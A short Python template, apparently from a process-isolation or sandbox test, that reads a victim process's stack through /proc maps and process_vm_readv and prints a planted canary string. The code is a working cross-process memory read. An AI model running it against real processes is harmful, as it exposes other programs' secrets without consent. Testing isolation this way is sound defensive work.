import ctypes


def attack():
    for line in open("/proc/@VICTIM@/maps"):
        if "[stack]" in line:
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
    size = high - low
    target = ctypes.create_string_buffer(size)

    class Vec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    here, there = Vec(ctypes.addressof(target), size), Vec(low, size)
    ctypes.CDLL(None).process_vm_readv(int("@VICTIM@"), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    at = target.raw.find(b"CANARY=")
    print(target.raw[at : at + 60])
